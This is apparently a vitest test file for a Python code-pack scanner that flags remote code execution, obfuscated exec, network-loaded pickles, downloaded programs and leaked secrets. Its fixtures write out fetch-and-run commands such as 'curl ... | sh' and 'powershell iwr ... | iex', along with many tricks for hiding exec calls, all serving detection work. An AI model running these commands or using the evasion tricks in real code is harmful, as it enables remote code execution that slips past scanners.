import { describe, expect, it } from 'vitest';
import { readPackCode } from './read-pack.js';

/** The rules a file breaks, in the order of its lines. */
async function listRules(source: string): Promise<string[]> {
  return (await readPackCode({ 'a.py': source })).findings.map(({ rule }) => rule);
}

describe('flags', () => {
  it.each([
    ['remote-code', 'import requests\nexec(requests.get("https://x.example/a.py").text)'],
    [
      'remote-code',
      'import requests as r\ndef go():\n  answer = r.get(u)\n  code = answer.content.decode()\n  exec(compile(code, "x", "exec"))',
    ],
    [
      'remote-code',
      'from urllib.request import urlopen\nwith urlopen(u) as f:\n  data = f.read()\neval(data)',
    ],
    ['remote-code', 'import requests\ndef run(code):\n  exec(code)\nrun(requests.get(u).text)'],
    [
      'remote-code',
      'import urllib.request\ngetattr(__builtins__, "ex" + "ec")(urllib.request.urlopen(u).read())',
    ],
    ['obfuscated-code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
    [
      'obfuscated-code',
      'from zlib import decompress as d\nfrom base64 import b64decode as b\np = d(b(X))\nexec(p)',
    ],
    ['obfuscated-code', 'import marshal\nexec(marshal.loads(DATA))'],
    ['obfuscated-code', 'exec("".join(map(chr, [112, 114, 105])))'],
    // Python ends lines at each carriage return, and reads names in their compatible form.
    ['remote-code', 'x = 1 # c\rimport requests\rexec(requests.get(u).text)\r'],
    ['remote-code', 'import requests\n𝐞𝐱𝐞𝐜(requests.get(u).text)'],
    ['remote-code', 'import ｒｅｑｕｅｓｔｓ as r\nｅval(r.get(u).text)'],
    ['remote-code', 'import requests\nrun = exec\nrun(requests.get(u).text)'],
    ['remote-code', 'net = __import__("requests")\neval(net.get(u).text)'],
    ['remote-code', 'import requests\nglobals()["__builtins__"]["exec"](requests.get(u).text)'],
    ['remote-code', 'import requests, sys\nsys.modules["builtins"].__dict__["eval"](requests.get(u).text)'],
    ['obfuscated-code', 'exec("".join(chr(n) for n in [112, 114, 105]))'],
    ['obfuscated-code', 'exec(bytes.fromhex("7072696e74").decode())'],
    ['obfuscated-code', 'import codecs\neval(codecs.decode("cevag", "rot13"))'],
    ['obfuscated-code', 'exec(__import__("base64").b64decode(X))'],
    ['obfuscated-code', '@exec\n@(lambda _: bytes.fromhex("7072696e74"))\nclass X: pass'],
    ['remote-code', 'import requests\n@exec\n@(lambda _: requests.get(u).text)\ndef f(): pass'],
    ['obfuscated-code', 'import base64\nlist(map(exec, [base64.b64decode(X)]))'],
    ['remote-code', 'import requests\ndef apply(f, x): f(x)\napply(exec, requests.get(u).text)'],
    ['remote-code', 'import requests\nsorted([requests.get(u).text], key=eval)'],
    [
      'obfuscated-code',
      'import base64\nfrom threading import Thread\nThread(target=exec, args=(base64.b64decode(X),)).start()',
    ],
    ['hidden-command', 'import os, base64, functools\nfunctools.partial(os.system, base64.b64decode(X))()'],
    ['remote-code', 'import builtins, requests\ngetattr(builtins, "cexe"[::-1])(requests.get(u).text)'],
    ['obfuscated-code', 'import builtins\nbuiltins.__dict__[name](bytes.fromhex("7072696e74"))'],
    ['remote-pickle', 'import pickle, requests\nresponse = requests.post(u)\npickle.loads(response.content)'],
    [
      'downloaded-program',
      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, path)\nsubprocess.run([path, "-q"])',
    ],
    [
      'downloaded-program',
      'import codecs, requests, os\nopen = codecs.open\nopen("x.exe", "wb").write(requests.get(u).content)\nos.startfile("x.exe")',
    ],
    [
      'downloaded-program',
      'import requests, os\nbody = requests.get(u).content\nwith open("x.exe", "wb") as f:\n  f.write(body)\nos.startfile("x.exe")',
    ],
    [
      'downloaded-program',
      'import urllib.request\nurllib.request.urlretrieve(u, "x.py")\nexec(open("x.py").read())',
    ],
    [
      'downloaded-program',
      'import requests, pathlib\nat = pathlib.Path("x.py")\nat.write_text(requests.get(u).text)\nexec(at.read_text())',
    ],
    [
      'downloaded-program',
      'import requests\nname = requests.get(v).text\nwith open(name, "wb") as f:\n  f.write(requests.get(u).content)\nexec(open(name).read())',
    ],
    ['remote-pickle', 'import pickle, requests, io\npickle.load(io.BytesIO(requests.get(u).content))'],
    ['remote-code', 'import requests\nexec(cache.get("a", requests.get(u).text))'],
    ['download-command', 'import os\nos.system("curl -s https://x.example/a | sh")'],
    ['download-command', 'import subprocess\nsubprocess.Popen(["powershell", "-enc", "AAAA"])'],
    ['hidden-command', 'import os, requests\nos.system(f"echo {requests.get(u).text} | sh")'],
    [
      'downloaded-program',
      'import os, urllib.request\nurllib.request.urlretrieve(u, p)\nos.system("chmod +x " + p)',
    ],
    ['download-command', 'import posix\nposix.system("curl https://x.example/a | sh")'],
    ['download-command', 'import os\nos.execvp("sh", ["sh", "-c", "curl https://x.example/a | sh"])'],
    [
      'download-command',
      'import os\nos.spawnlp(os.P_WAIT, "sh", "sh", "-c", "curl https://x.example/a | sh")',
    ],
    ['download-command', 'import os\nos.system(" ".join(["curl", u, "|", "sh"]))'],
    ['download-command', 'import os\nos.system("curl {} | sh".format(u))'],
    [
      'hidden-command',
      'import sys, subprocess, requests\nsubprocess.run([sys.executable, "-c", requests.get(u).text])',
    ],
    ['remote-code', 'import subprocess\nexec(subprocess.check_output(["curl", "-s", u]))'],
    ['remote-code', 'import os\nexec(os.popen("curl -s https://x.example/a").read())'],
    ['remote-code', 'import code, requests\ncode.InteractiveInterpreter().runsource(requests.get(u).text)'],
    [
      'remote-code',
      'import requests, types\ntypes.FunctionType(compile(requests.get(u).text, "x", "exec"), {})()',
    ],
    ['remote-pickle', 'import pandas\npandas.read_pickle("https://x.example/a.pkl")'],
    ['obfuscated-code', 'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY")'],
    ['obfuscated-code', 'exec("\\x70\\x72\\x69\\x6e\\x74")'],
    ['hidden-command', 'import os, base64\nos.system(base64.b64decode("bHM=").decode())'],
  ])('%s: %s', async (rule, source) => {
    const { findings } = await readPackCode({ 'a.py': source });
    expect(findings).toContainEqual(expect.objectContaining({ rule, severity: 'high', file: 'a.py' }));
  });
});

/** Programs that run what `CODE` stands for, by the way on which it reaches `exec`. */
describe('flags code from the network, however it reaches exec:', () => {
  it.each([
    'def f(): return CODE\nexec(f())',
    'class A:\n  def f(self): return CODE\nexec(A().f())',
    'def f():\n  yield CODE\nfor c in f(): exec(c)',
    'class A:\n  def __init__(self):\n    self.c = CODE\n  def run(self): exec(self.c)',
    'if (c := CODE):\n  exec(c)',
    'c = ""\nc += CODE\nexec(c)',
    'a = b = CODE\nexec(a)',
    '(a, (b, c)) = (1, (exec, CODE))\nb(c)',
    'def f():\n  global c\n  c = CODE\nf()\nexec(c)',
    'def f():\n  c = CODE\n  def g(): exec(c)\n  g()',
    'def f(c=CODE): exec(c)\nf()',
    '[exec(c) for c in [CODE]]',
    'd = {}\nd["c"] = CODE\nexec(d["c"])',
    'exec({"c": CODE}["c"])',
    'exec(CODE[::-1])',
    '{"a": exec}["a"](CODE)',
    'd = {"a": exec}\nd.get("a")(CODE)',
    '[exec][0](CODE)',
    'for run in [print, exec]: run(CODE)',
    '(exec if x else eval)(CODE)',
    '(None or exec)(CODE)',
    'exec.__call__(CODE)',
    'def f(c, run=exec): run(c)\nf(CODE)',
    'class A:\n  run = exec\nA.run(CODE)',
    'class A:\n  run = staticmethod(exec)\n  def f(self): self.run(CODE)',
    'class A: pass\nsetattr(A, "run", exec)\nA.run(CODE)',
    'def f(): run(CODE)\nrun = exec\nf()',
    'globals()["run"] = exec\nrun(CODE)',
    'import builtins\nvars(builtins)["exec"](CODE)',
    '__builtins__.__dict__.get("exec")(CODE)',
    '__builtins__.__getitem__("exec")(CODE)',
    'import builtins\nobject.__getattribute__(builtins, "exec")(CODE)',
  ])('%s', async (source) => {
    const code = source.replace('CODE', 'requests.get(u).text');
    expect(await listRules(`import requests\n${code}`)).toContain('remote-code');
  });

  it.each([
    'import requests\ns = requests.Session()\nexec(s.get(u).text)',
    'import requests\nwith requests.Session() as s:\n  exec(s.get(u).text)',
    'import httpx\nc = httpx.Client()\nexec(c.get(u).text)',
    'import http.client\nc = http.client.HTTPSConnection("x.example")\nexec(c.getresponse().read())',
    'import socket\ns = socket.socket()\nexec(s.makefile().read())',
    'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    async with s.get(u) as r:\n      exec(await r.text())',
  ])('%s', async (source) => {
    expect(await listRules(source)).toContain('remote-code');
  });
});

it.each([
  'bytes([112, 114])',
  'bytearray((112, 114))',
  'bytes(map(lambda n: n ^ 7, [1, 2]))',
  '")1(tnirp"[::-1]',
  '"".join(reversed(")1(tnirp"))',
  '"abc".translate(str.maketrans("abc", "xyz"))',
  '(123456).to_bytes(8, "big")',
  'struct.pack("2B", 112, 114)',
  'b"cevag".decode("rot13")',
  'AES.new(key).decrypt(X)',
])('flags code that is spelled %s', async (code) => {
  expect(await listRules(`import struct\nfrom Crypto.Cipher import AES\nexec(${code})`)).toEqual([
    'obfuscated-code',
  ]);
});

it('reads letters that end in the byte of a sign as Python does', async () => {
  // In Shift JIS, 0x83 0x5c is one letter; otherwise the backslash would keep the text open.
  const source = Buffer.from(
    '# coding: shift_jis\nimport requests\nx = "\x83\x5c"; exec(requests.get(u).text) # "\n',
    'latin1',
  );
  const { findings } = await readPackCode({ 'a.py': source });
  expect(findings).toContainEqual(expect.objectContaining({ rule: 'remote-code', line: 3 }));
});

describe('mentions, but does not flag,', () => {
  it.each([
    [
      'dynamic-code',
      'def calculate(self, expression):\n  return eval(expression, {"__builtins__": {}}, names)',
    ],
    ['dynamic-code', '@exec\ndef code(): pass'],
    ['dynamic-code', 'list(map(exec, codes))'],
    ['dynamic-code', 'for line in lines[::-1]: exec(line)'],
    ['dynamic-code', 'exec(bytes(source, "utf-8").decode("utf-8"))'],
    ['dynamic-code', 'import requests\ndef a():\n  c = requests.get(u)\ndef b():\n  c = "1"\n  eval(c)'],
    ['dynamic-code', 'import requests\na, b = requests, "1"\neval(b)'],
    ['dynamic-code', 'import builtins\ngetattr(builtins, "ex" + "ec")(code)'],
    ['subprocess', 'import asyncio, subprocess\nasyncio.to_thread(subprocess.run, ["ffmpeg"])'],
    ['pickle', 'import pandas\npandas.read_pickle("cache.pkl")'],
    ['dynamic-code', 'import sys\nsys.excepthook = exec'],
    [
      'subprocess',
      'import subprocess\nsubprocess.run("curl -o model.bin https://x.example/m && ls -l", shell=True)',
    ],
    ['subprocess', 'import subprocess\nsubprocess.run(["bash", "-c", "echo $(date)"])'],
    ['pickle', 'import pickle\npickle.load(open("cache.pkl", "rb"))'],
    [
      'runtime-install',
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
    ],
    ['runtime-install', 'import os\nos.system("pip install -r requirements.txt")'],
    ['subprocess', 'import subprocess\nsubprocess.run([ffmpeg, "-i", name], check=True)'],
    // The name of a file, of an entry and of what is compiled, from the network, and not the content.
    [
      'pickle',
      'import pickle, requests\ndef f():\n  name = requests.get(u).json()["file"]\n  return pickle.load(open(os.path.join(cache, name), "rb"))',
    ],
    [
      'pickle',
      'import pickle, requests\nfrom pathlib import Path\ndef f():\n  at = Path(folder) / requests.get(u).json()["file"]\n  return pickle.loads(at.read_bytes())',
    ],
    [
      'dynamic-code',
      'import requests\ndef f():\n  kind = requests.get(u).json()["kind"]\n  exec(SNIPPETS.get(kind))',
    ],
    [
      'dynamic-code',
      'import requests\ndef f():\n  name = requests.get(u).text\n  exec(compile(SOURCE, name, "exec"))',
    ],
    ['network-at-import', 'import requests\nlatest = requests.get("https://x.example/version").json()'],
    ['deletes-folders', 'import shutil\nshutil.rmtree(folder)'],
  ])('%s: %s', async (rule, source) => {
    const { findings } = await readPackCode({ 'a.py': source });
    expect(findings.map((one) => [one.rule, one.severity])).toEqual([[rule, 'low']]);
  });
});

describe('does not mention', () => {
  it.each([
    ['a model in evaluation mode', 'model.eval()\nself.model.eval()'],
    ['a compiled pattern or model', 'import re, torch\np = re.compile("a")\nm = torch.compile(model)'],
    ['a picture decoded from base64', 'import base64\nimage = open_image(base64.b64decode(text))'],
    ['a download in a function', 'import requests\ndef fetch():\n  return requests.get(u).json()'],
    [
      'a model that is downloaded and loaded',
      'import torch\nfrom huggingface_hub import hf_hub_download\ntorch.load(hf_hub_download(a, b))',
    ],
    ['a query that is executed', 'cursor.execute("select 1")\ndf.eval("a + b")'],
    ['decorators', 'import pickle, torch\n@property\n@torch.no_grad()\ndef f(self): pass'],
    ['a builtin type by its name', 'import builtins\nisinstance(x, getattr(builtins, kind))'],
    ['words in a text or comment', '# exec(requests.get(u).text)\nx = "exec(base64.b64decode(y))"'],
  ])('%s', async (_, source) => {
    expect(await listRules(source)).toEqual([]);
  });
});

it('does not flag a downloaded picture passed to ffmpeg, because it is not a program', async () => {
  const source =
    'import urllib.request, subprocess\ndef go():\n  urllib.request.urlretrieve(u, picture)\n  subprocess.run(["ffmpeg", "-i", picture])';
  expect(await listRules(source)).toEqual(['subprocess']);
});

it.each([
  'bash <(curl -s https://x.example/a)',
  'bash -c "$(curl -fsSL https://x.example/a)"',
  'eval $(curl https://x.example/a)',
  'curl https://x.example/a -o /tmp/a; sh /tmp/a',
  'curl -o /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a',
  'powershell iwr https://x.example/a | iex',
  'pwsh -EncodedCommand AAAA',
])('flags the command %s', async (command) => {
  expect(await listRules(`import os\nos.system(${JSON.stringify(command)})`)).toEqual(['download-command']);
});

it.each([
  'os.system("git clone %s %s" % (u, folder))',
  'os.system(f"ffmpeg -i {picture}")',
  'subprocess.run(commands["git"])',
])('does not flag %s with text from the network, because it is not a program', async (call) => {
  const source = `import os, subprocess, requests, urllib.request\ndef go():
  u = requests.get(index).text
  urllib.request.urlretrieve(u, picture)
  commands = {"git": ["git", "clone", u]}
  ${call}`;
  expect(await listRules(source)).toEqual(['subprocess']);
});

it('compiled files are mentioned and not read', async () => {
  const { findings } = await readPackCode({
    'a.pyc': 'x',
    'lib/b.cpython-312-x86_64-linux-gnu.so': 'x',
    'c.so.py': '',
  });
  expect(findings.map(({ file, rule, severity }) => [file, rule, severity])).toEqual([
    ['a.pyc', 'compiled-code', 'low'],
    ['lib/b.cpython-312-x86_64-linux-gnu.so', 'compiled-code', 'low'],
  ]);
});

it('a finding has its line and a message, and never the secret', async () => {
  const token = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1cD3'}`;
  const { findings } = await readPackCode({
    'config.json': `{\n  "token": "${token}"\n}`,
    '.env': 'TOKEN=1',
    'model.bin': token,
  });
  expect(findings).toEqual([
    {
      file: '.env',
      line: 1,
      rule: 'secret',
      severity: 'high',
      message: expect.stringContaining('environment file'),
    },
    {
      file: 'config.json',
      line: 2,
      rule: 'secret',
      severity: 'high',
      message: expect.stringContaining('GitHub token'),
    },
  ]);
  expect(JSON.stringify(findings)).not.toContain(token.slice(0, 12));
});

it('notes a key in a test, flags one in a document, and takes made-up ones for what they are', async () => {
  const key = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1cD3'}`;
  const made = [
    'ghp_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8',
    'hf_FakeTokenForUnitTestsOnly0918273645zmxn',
    'ghp_9876543210zyxwvutsrqponmlkjihgfedcba',
  ];
  const { findings } = await readPackCode({
    'tests/conftest.py': `KEY = "${key}"`,
    'web/api.test.js': `const key = "${key}"`,
    'README.md': `Run with ${key}`,
    'docs/use.md': made.join('\n'),
    'sub/.env': 'export S3_KEY = "replace with your key"\nREGION=<region>\nEMPTY=\n# a comment\n',
  });
  expect(findings.map(({ file, rule, severity }) => [file, rule, severity])).toEqual([
    ['README.md', 'secret', 'high'],
    ['tests/conftest.py', 'secret', 'low'],
    ['web/api.test.js', 'secret', 'low'],
  ]);
});

it('orders findings by file and line, each rule once a line', async () => {
  const { findings } = await readPackCode({
    'b.py': 'eval(x); eval(y)\n\neval(z)',
    'a.py': 'import shutil\nshutil.rmtree(x)',
  });
  expect(findings.map(({ file, line }) => `${file}:${line}`)).toEqual(['a.py:2', 'b.py:1', 'b.py:3']);
});

it('values that refer to each other endlessly are reported as not followed', async () => {
  const names = Array.from({ length: 2000 }, (_, n) => `a${n % 50} = a${(n * 7) % 50} + a${(n * 3) % 50}\n`);
  const before = process.cpuUsage().user;
  expect(await listRules(`${names.join('')}${'exec(a1)\n'.repeat(3000)}`)).toContain('unread-code');
  expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(10);
});

it('stays bounded on commands and calls without end', async () => {
  const { findings } = await readPackCode({
    'a.py': `import subprocess\nsubprocess.run("${'curl powershell '.repeat(20_000)}")\n`,
    'b.py': `def f(x): exec(x)\n${'f(f)\n'.repeat(5000)}`,
    'c.py': `import requests\n${'x = x + x + y\n'.repeat(3000)}${'exec(x)\n'.repeat(3000)}`,
    // Each list holds the one before fifty times.
    'd.py': `import subprocess\nx0 = "a"\n${[1, 2, 3, 4, 5].map((n) => `x${n} = [${`x${n - 1},`.repeat(50)}]\n`).join('')}subprocess.run(x5)\n`,
    // The beginning of a key, with headers that could be parted in millions of ways.
    'e.py': `x = """-----BEGIN PRIVATE KEY-----\n${'A: '.repeat(300)}"""\n`.repeat(50),
  });
  expect(findings.length).toBeLessThanOrEqual(300);
});
